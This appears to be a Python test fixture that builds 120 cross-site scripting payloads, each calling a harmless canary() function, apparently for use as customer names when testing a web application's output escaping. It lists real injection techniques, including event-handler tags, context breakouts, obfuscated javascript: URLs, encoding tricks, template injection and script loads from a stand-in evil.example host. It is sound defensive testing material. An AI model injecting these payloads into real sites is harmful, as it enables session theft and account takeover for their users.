"""Cross-site scripting payloads: each calls canary() if it succeeds."""

_CALLS = ["canary()", "window['canary']()", "top.canary()", "setTimeout(canary)", "[1].map(canary)", "canary``"]
_EVENTS = [
    ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"), ("details open", "ontoggle"),
    ("video src=x", "onerror"), ("audio src=x", "onerror"), ("iframe src=about:blank", "onload"), ("marquee", "onstart"), ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"), ("style", "onload"), ("object data=x", "onerror"), ("button autofocus", "onfocus"), ("a href=# autofocus", "onfocus"),
    ("svg><animate", "onbegin"), ("svg><set", "onbegin"), ("link rel=stylesheet href=x", "onerror"), ("div style='animation:x'", "onanimationstart"), ("p tabindex=0 autofocus", "onfocus"),
]
_BREAKS = ['"', "'", "`", '">', "'>", "</title>", "</textarea>", "</style>", "</script>", "-->", "</option></select>", "</noscript>", "</svg>", "]]>", "</a>", "</template>"]
_ADDRESSES = [
    "javascript:canary()", "JaVaScRiPt:canary()", "java\tscript:canary()", " javascript:canary()", "javascript&colon;canary()", "&#106;avascript:canary()",
    "data:text/html,<script>canary()</script>", "vbscript:canary()", "//evil.example/x.js", "javascript://%0acanary()", "\u00a0javascript:canary()", "https://evil.example/canary.js",
]


def payloads():
    found = [f"<script>{call}</script>" for call in _CALLS]
    found += [f"<{tag} {event}={_CALLS[index % 3]}>" for index, (tag, event) in enumerate(_EVENTS)]
    found += [f"{mark}<img src=x onerror=canary()>" for mark in _BREAKS]
    found += [f"{mark} onfocus=canary() autofocus tabindex=0 x={mark}" for mark in _BREAKS[:5]]
    found += [f"{mark}<script>canary()</script>" for mark in _BREAKS]
    found += _ADDRESSES + [f"<a href='{address}'>go</a>" for address in _ADDRESSES]
    found += [
        "<script/src=data:,canary()>", "<scr<script>ipt>canary()</scr</script>ipt>", "<IMG SRC=x ONERROR=canary()>", "<img/src=x/onerror=canary()>", "<svg/onload=canary()>",
        "<svg><script>canary()</script></svg>", "<math><mi//xlink:href='data:x,<script>canary()</script>'>", "<base href='//evil.example/'>", "<meta http-equiv=refresh content='0;url=javascript:canary()'>",
        "<form action=javascript:canary()><button>x</button></form>", "<button formaction=javascript:canary()>x</button>", "<iframe srcdoc='<script>parent.canary()</script>'>", "<embed src='data:text/html,<script>canary()</script>'>",
        "<object data='javascript:canary()'>", "<noscript><p title='</noscript><img src=x onerror=canary()>'>", "<template><script>canary()</script></template>", "<!--><img src=x onerror=canary()>", "<![CDATA[><img src=x onerror=canary()>",
        "%3Cscript%3Ecanary()%3C/script%3E", "&lt;script&gt;canary()&lt;/script&gt;", "&amp;lt;img src=x onerror=canary()&amp;gt;", "\\u003cscript\\u003ecanary()\\u003c/script\\u003e", "\\x3cimg src=x onerror=canary()\\x3e",
        "＜script＞canary()＜/script＞", "<ſcript>canary()</ſcript>", "\u2028<script>canary()</script>", "+ADw-script+AD4-canary()+ADw-/script+AD4-", "{{constructor.constructor('canary()')()}}", "${canary()}", "#{canary()}", "<%= canary() %>", "{{{canary}}}", "<x onclick=canary() tabindex=0 autofocus onfocus=canary()>",
    ]
    # The numbers make each text unique, so that each is the name of another customer.
    assert len(found) >= 120, len(found)
    return [f"{text} n{number}" for number, text in enumerate(found[:120])]
